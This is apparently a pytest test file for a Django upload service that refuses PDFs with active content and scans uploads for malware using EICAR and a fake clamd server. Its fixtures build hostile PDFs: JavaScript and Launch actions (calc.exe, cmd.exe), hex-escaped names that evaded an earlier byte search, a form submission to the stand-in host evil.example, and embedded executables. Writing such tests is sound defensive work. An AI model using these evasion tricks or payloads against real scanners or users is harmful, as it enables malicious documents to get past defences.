"""Uploaded PDFs are parsed and refused when they carry active content; every upload is scanned for malware.

Issue 10, finding 4: active content passed when names were hex-escaped (/S/J#61vaScript), when a
comment split name and value, or inside a compressed object stream; /Launch passed too; the EICAR test
string inside a .pdf was stored.
"""

import io
import socket
import threading

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pypdf import PdfWriter

from title_review.attachments.models import Attachment
from title_review.core.scanning import eicar

from .helpers import PAGE, PAGES, PDF, build_pdf, jpeg, one_page_pdf, pdf

HTMX = {"HTTP_HX_REQUEST": "true"}
SCRIPT = "含有脚本"
LAUNCH = "启动程序或打开其他文件"
EMBEDDED = "内嵌了其他文件"
FORM = "提交或导入数据"
MEDIA = "多媒体"
JS_ACTION = rb"<< /S /JavaScript /JS (app.alert\(1\)) >>"


def _upload(client, content: bytes, kind: str = "review_form", name: str = "评审表.pdf"):
    data = {"attachment_kind": kind, "attachment_file": SimpleUploadedFile(name, content)}
    return client.post("/attachments/upload/", data, **HTMX)


def _refused(login, content: bytes, message: str, **kwargs) -> None:
    response = _upload(login("applicant"), content, **kwargs)
    assert response.status_code == 200
    html = response.content.decode()
    assert message in html, html[-2000:]
    assert not Attachment.objects.exists()


def _written(build) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    build(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _link(action: bytes) -> dict[str, bytes]:
    return {
        "page_extra": b"/Annots [4 0 R]",
        "o4": b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A " + action + b" >>",
    }


HOSTILE = {
    # Each of the first three slipped past the byte search this replaces.
    "hex-escaped action type": (one_page_pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), SCRIPT),
    "hex-escaped keys": (
        one_page_pdf(
            b"/Open#41ction << /#53 /J#61v#61Script /J#53 4 0 R >>",
            o4=b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
        ),
        SCRIPT,
    ),
    "comment between name and value": (
        one_page_pdf(b"/OpenAction << /S /J#61vaScript /JS %harmless\n(app.alert\\(1\\)) >>"),
        SCRIPT,
    ),
    "compressed object stream": (
        build_pdf(
            {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", 3: PAGE},
            compressed={2: PAGES, 4: JS_ACTION},
        ),
        SCRIPT,
    ),
    "document JavaScript name tree": (
        one_page_pdf(b"/Names << /JavaScript 4 0 R >>", o4=b"<< /Names [(x) 5 0 R] >>", o5=JS_ACTION),
        SCRIPT,
    ),
    "JavaScript as a stream": (
        one_page_pdf(
            b"/OpenAction << /S /JavaScript /JS 4 0 R >>",
            o4=b"<< /Length 12 >>\nstream\napp.alert(1)\nendstream",
        ),
        SCRIPT,
    ),
    "page additional action": (one_page_pdf(page_extra=b"/AA << /O " + JS_ACTION + b" >>"), SCRIPT),
    "annotation additional action": (
        one_page_pdf(
            page_extra=b"/Annots [4 0 R]",
            o4=b"<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AA << /Fo " + JS_ACTION + b" >> >>",
        ),
        SCRIPT,
    ),
    "XFA form": (
        one_page_pdf(b"/AcroForm << /Fields [] /XFA 4 0 R >>", o4=b"<< /Length 0 >>\nstream\n\nendstream"),
        SCRIPT,
    ),
    "Launch in a link": (one_page_pdf(**_link(b"<< /S /Launch /F (calc.exe) >>")), LAUNCH),
    "hex-escaped Launch": (one_page_pdf(**_link(b"<< /S /L#61unch /Win << /F (cmd.exe) >> >>")), LAUNCH),
    "Launch as the open action": (one_page_pdf(b"/OpenAction << /S /Launch /F (calc.exe) >>"), LAUNCH),
    "GoToR to another file": (
        one_page_pdf(**_link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>")),
        LAUNCH,
    ),
    "SubmitForm": (one_page_pdf(**_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/) >> >>")), FORM),
    "ImportData": (one_page_pdf(**_link(b"<< /S /ImportData /F (data.fdf) >>")), FORM),
    "RichMedia annotation": (
        one_page_pdf(page_extra=b"/Annots [4 0 R]", o4=b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
        MEDIA,
    ),
    "embedded file (pypdf writer)": (_written(lambda w: w.add_attachment("readme.exe", b"MZ\x90\x00")), EMBEDDED),
    "file attachment annotation": (
        one_page_pdf(
            page_extra=b"/Annots [4 0 R]",
            o4=b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS << /Type /Filespec /F (a.exe)"
            b" /EF << /F 5 0 R >> >> >>",
            o5=b"<< /Type /EmbeddedFile /Length 3 >>\nstream\nabc\nendstream",
        ),
        EMBEDDED,
    ),
    "encrypted": (_written(lambda w: w.encrypt("secret", algorithm="RC4-128")), "加密"),
    "not a PDF behind its header": (b"%PDF-1.7\nthis is not a PDF at all\n", "无法解析"),
    "no pages": (build_pdf({1: b"<< /Type /Catalog >>"}), "无法解析"),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_hostile_pdfs_are_refused_and_nothing_is_stored(case, users, login):
    content, message = HOSTILE[case]
    _refused(login, content, message)


CLEAN = {
    "minimal": PDF,
    "a web link": one_page_pdf(**_link(b"<< /S /URI /URI (https://www.zj.gov.cn/) >>")),
    "opens at page 1": one_page_pdf(b"/OpenAction [3 0 R /Fit]"),
    "written by pypdf": _written(lambda w: w.add_metadata({"/Title": "评审表"})),
    "with an object stream": build_pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>"}, compressed={2: PAGES, 3: PAGE}),
    "words that look like actions in text": one_page_pdf(
        page_extra=b"/Contents 4 0 R", o4=b"<< /Length 34 >>\nstream\n(/JavaScript /Launch /JS) Tj\n\nendstream"
    ),
}


@pytest.mark.parametrize("case", list(CLEAN))
def test_clean_pdfs_are_kept(case, users, login):
    response = _upload(login("applicant"), CLEAN[case])
    assert response.status_code == 200
    assert Attachment.objects.count() == 1, response.content.decode()[-1500:]


# ---- malware scan ----------------------------------------------------------------------------------


def test_the_eicar_string_inside_a_pdf_is_refused(users, login):
    content = one_page_pdf(o4=b"<< /Length 68 >>\nstream\n" + eicar() + b"\nendstream")
    _refused(login, content, "病毒")


def test_the_eicar_string_in_an_image_is_refused_before_reencoding(users, login):
    picture = jpeg().read()
    _refused(login, picture + eicar(), "病毒", kind="photo", name="证件照.jpg")


def test_the_eicar_string_in_an_import_file_is_refused(users, login, seeded):
    import zipfile

    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active.append(["*证件类型", "*证件号码", "*姓名"])
    workbook.active.append(["居民身份证", "330106198501010012", "张三"])
    out = io.BytesIO()
    workbook.save(out)
    with zipfile.ZipFile(out, "a") as archive:  # a part stored as it is, as a dropper would
        archive.writestr("xl/media/readme.txt", eicar(), compress_type=zipfile.ZIP_STORED)
    response = login("hospitaladmin").post(
        "/organisations/employer/staff/import/", {"file": SimpleUploadedFile("staff.xlsx", out.getvalue())}
    )
    assert "病毒" in " ".join(response.context["form"].errors["file"])


class FakeClamd:
    """clamd's INSTREAM protocol on a local TCP port: finds the EICAR string, like the real daemon."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.commands: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                stream = connection.makefile("rb")
                command = b""
                while not command.endswith(b"\0"):
                    command += stream.read(1)
                self.commands.append(command)
                data = b""
                while True:
                    size = int.from_bytes(stream.read(4), "big")
                    if size == 0:
                        break
                    data += stream.read(size)
                found = eicar() in data
                connection.sendall(b"stream: Eicar-Test-Signature FOUND\0" if found else b"stream: OK\0")

    def close(self):
        self.server.close()


@pytest.fixture
def clamd(settings):
    fake = FakeClamd()
    settings.MALWARE_SCANNER = "title_review.core.scanning.ClamdScanner"
    settings.CLAMD_ADDRESS = f"tcp://127.0.0.1:{fake.port}"
    yield fake
    fake.close()


def test_clamd_is_asked_when_configured(clamd, users, login):
    client = login("applicant")
    _upload(client, PDF)
    assert Attachment.objects.count() == 1
    _upload(client, one_page_pdf(o4=b"<< /Length 68 >>\nstream\n" + eicar() + b"\nendstream"))
    assert Attachment.objects.count() == 1
    assert clamd.commands == [b"zINSTREAM\0", b"zINSTREAM\0"]


def test_when_clamd_is_down_uploads_wait(settings, users, login):
    with socket.create_server(("127.0.0.1", 0)) as placeholder:
        port = placeholder.getsockname()[1]
    settings.MALWARE_SCANNER = "title_review.core.scanning.ClamdScanner"
    settings.CLAMD_ADDRESS = f"tcp://127.0.0.1:{port}"  # nothing listens there any more
    _refused(login, PDF, "病毒扫描服务暂时不可用")


def test_a_declaration_attachment_with_a_script_is_refused_through_the_service(users):
    from title_review.attachments.services import upload_attachment
    from title_review.core.errors import DomainError

    applicant = users["applicant"]
    with pytest.raises(DomainError, match=SCRIPT):
        upload_attachment(
            actor=applicant,
            owner=applicant,
            kind="paper",
            upload=pdf("论文.pdf", HOSTILE["compressed object stream"][0]),
        )


def test_a_scanner_that_cannot_work_stops_start_up(settings):
    from django.core.checks import run_checks

    def errors():
        return {m.id for m in run_checks() if m.id and m.id.startswith("core.E")}

    assert not errors() & {"core.E002", "core.E003"}
    settings.MALWARE_SCANNER = "title_review.core.scanning.NoSuchScanner"
    assert "core.E002" in errors()
    settings.MALWARE_SCANNER = "title_review.core.scanning.ClamdScanner"
    settings.CLAMD_ADDRESS = ""
    assert "core.E003" in errors()
    settings.CLAMD_ADDRESS = "unix:///run/clamav/clamd.ctl"
    assert not errors() & {"core.E002", "core.E003"}
